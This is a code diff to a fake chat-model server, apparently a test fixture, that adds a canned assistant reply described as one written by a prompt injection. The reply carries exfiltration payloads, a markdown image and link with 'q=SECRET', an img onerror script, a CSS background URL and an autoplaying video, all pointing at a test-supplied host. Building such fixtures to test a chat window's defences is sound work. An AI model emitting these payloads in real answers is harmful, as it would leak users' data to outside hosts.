@@ -71,6 +71,8 @@ function chat(req: { model: string; messages: { role: string; content?: string }
   res.setHeader('Content-Type', 'application/x-ndjson')
   const msgs = req.messages
   if (msgs[msgs.length - 1]?.content?.includes('stream long')) return streamLong(req.model, res)
+  const leak = msgs[msgs.length - 1]?.content?.match(/render these: (\S+)/)
+  if (leak) return injected(req.model, leak[1], res)
   let results = 0
   for (let i = msgs.length - 1; i >= 0 && msgs[i].role !== 'user'; i--) if (msgs[i].role === 'tool') results++
   const now = () => new Date().toISOString()
@@ -124,6 +126,19 @@ function streamLong(model: string, res: import('node:http').ServerResponse) {
     setTimeout(tick, 5)
   }
   tick()
+}
+
+// An answer a prompt injection wrote: each part would reach base by itself
+// if the window let it (an image, an inline image, a CSS background, a
+// video), and a link that would take the window there when clicked.
+function injected(model: string, base: string, res: import('node:http').ServerResponse) {
+  const text =
+    `Summary ![chart](${base}/md-image?q=SECRET) <img src="${base}/html-image" onerror="window.pwned=1"> ` +
+    `<div style="background:url(${base}/css)">bg</div> <video src="${base}/video" autoplay></video>\n\nSee [the docs](${base}/link?q=SECRET).`
+  const now = new Date().toISOString()
+  res.write(JSON.stringify({ model, created_at: now, message: { role: 'assistant', content: text }, done: false }) + '\n')
+  res.write(JSON.stringify({ model, created_at: now, message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop', prompt_eval_count: 10, eval_count: 40, eval_duration: 1e8 }) + '\n')
+  res.end()
 }
 
 /** Stops a fake server at once: open keep-alive and in-flight connections
